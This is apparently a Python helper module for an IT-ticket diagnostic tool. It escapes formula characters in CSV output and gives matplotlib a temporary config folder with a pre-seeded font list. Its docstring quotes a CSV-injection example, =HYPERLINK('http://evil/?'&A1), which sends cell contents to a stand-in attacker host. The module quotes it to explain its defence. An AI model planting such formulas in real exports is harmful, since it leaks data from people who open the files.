"""Output hygiene shared by everything that writes files for people.

- CSV only through :func:`csv_text`: ticket text is written by strangers, and
  ``=HYPERLINK("http://evil/?"&A1)`` typed into a summary would become a live formula
  in a CSV opened in Excel, LibreOffice or Google Sheets, so every cell goes through
  :func:`sheet_safe` (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab or carriage
  return). The pulled files and the action list (``diagnose --format csv``) are the
  only CSVs written for users; ``tests/hostile/test_safe_outputs.py`` fails when another
  module starts writing CSV. The sample writers in :mod:`itsm_diag.writers` are the exception
  on purpose: they imitate what ServiceNow, Jira, Zendesk and Freshservice export, byte
  for byte, so the importers are tested against real-looking files.
- :func:`private_matplotlib_config`: matplotlib writes a font cache to ``~/.cache`` or
  ``~/.config`` on first import; the HTML report points it at a private temporary folder
  deleted when the process exits, so a run leaves nothing behind but the report. As that
  folder is new every run, matplotlib would list every font on the computer on every run
  (0.13 s here, seconds on a desktop with thousands of fonts); the folder is seeded with
  a list of matplotlib's own fonts instead (:func:`_seed_font_list`, :func:`_bundled_fonts`).
"""

from __future__ import annotations

import ast
import atexit
import csv
import io
import json
import os
import re
import shutil
import sys
import tempfile
from collections.abc import Iterable

_mpl_dir: str | None = None

#: a cell starting with one of these runs as a formula when a spreadsheet opens the file
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def sheet_safe(value: object) -> str:
    """A cell as text a spreadsheet shows as text: ``'`` before a leading ``= + - @``
    (OWASP's CSV-injection advice; ticket text such as ``=HYPERLINK(...)`` would
    otherwise run when the file is opened in Excel). Blank for None."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if text.startswith(_FORMULA) else text


def csv_text(header: list[str], rows: Iterable[list[object]]) -> str:
    """A CSV's text: every cell, the header's too, through :func:`sheet_safe`."""
    buf = io.StringIO()
    out = csv.writer(buf, lineterminator="\n")
    out.writerow([sheet_safe(h) for h in header])
    out.writerows([sheet_safe(v) for v in row] for row in rows)
    return buf.getvalue()


def private_matplotlib_config() -> None:
    """Point matplotlib's config and cache at a private temporary folder, removed at exit,
    whose font list holds matplotlib's own fonts (then matplotlib is imported); called
    before matplotlib is first imported: a user's own ``MPLCONFIGDIR`` wins."""
    global _mpl_dir
    if _mpl_dir is not None or "matplotlib" in sys.modules or os.environ.get("MPLCONFIGDIR"):
        return
    from multiprocessing import util

    _mpl_dir = tempfile.mkdtemp(prefix="itsm-diag-mpl-")
    os.environ["MPLCONFIGDIR"] = _mpl_dir
    atexit.register(shutil.rmtree, _mpl_dir, ignore_errors=True)
    # batch workers leave through multiprocessing, which skips atexit but runs these
    util.Finalize(None, shutil.rmtree, args=(_mpl_dir,), kwargs={"ignore_errors": True},
                  exitpriority=0)
    if _seed_font_list(_mpl_dir):
        _bundled_fonts()


#: the font list's format version, a literal in ``class FontManager`` (330, 390, '3.11.0')
_FONT_LIST_VERSION = re.compile(r"^class FontManager\b.*?^    __version__ = ([^#\n]+)",
                                re.S | re.M)


def _seed_font_list(folder: str) -> bool:
    """Write an empty font list where matplotlib looks for its cache, so that importing it
    loads that list instead of listing every font on the computer (matplotlib's own ~100
    font files parsed and each system font opened: 0.13 s a run on a machine with 38
    fonts, seconds with thousands). Its format version is read from matplotlib's source
    without importing it; when that cannot be read, nothing is written and matplotlib
    builds its list as usual (slower, same charts). True when the list was written."""
    from importlib.util import find_spec

    try:
        spec = find_spec("matplotlib")
        where = list(spec.submodule_search_locations or []) if spec else []
        with open(os.path.join(where[0], "font_manager.py"), encoding="utf-8") as source:
            found = _FONT_LIST_VERSION.search(source.read())
        version = ast.literal_eval(found.group(1).strip()) if found else None
    except (OSError, IndexError, ValueError, SyntaxError):
        return False
    if not isinstance(version, int | str):
        return False
    # the attributes FontManager.__init__ sets, as matplotlib's json_dump writes them
    empty: dict[str, object] = {
        "_version": version, "_FontManager__default_weight": "normal", "default_size": None,
        "defaultFamily": {"ttf": "DejaVu Sans", "afm": "Helvetica"}, "afmlist": [],
        "ttflist": [], "__class__": "FontManager"}
    with open(os.path.join(folder, f"fontlist-v{version}.json"), "w", encoding="utf-8") as out:
        json.dump(empty, out)
    return True


def _bundled_fonts() -> None:
    """Import matplotlib and fill its font list, seeded empty by :func:`_seed_font_list`,
    with the fonts matplotlib ships (DejaVu, STIX, Computer Modern, Last Resort: 40
    files opened, no system font).

    The charts name DejaVu Sans first, and a full list holds matplotlib's own copy ahead
    of any system font of that name, so their text is measured in the same font as with
    a full list: the SVG is the same byte for byte, on any computer, whatever fonts it
    has. The list stays matplotlib's for the rest of the process: a program that draws
    its own figures with other fonts after an HTML report sets ``MPLCONFIGDIR`` or
    imports matplotlib first (then nothing is seeded)."""
    import matplotlib
    from matplotlib import font_manager

    if font_manager.fontManager.ttflist:  # not the seeded list (its version changed): keep
        return
    fonts = os.path.join(matplotlib.get_data_path(), "fonts", "ttf")
    for name in sorted(os.listdir(fonts)):
        if name.lower().endswith(".ttf"):
            font_manager.fontManager.addfont(os.path.join(fonts, name))
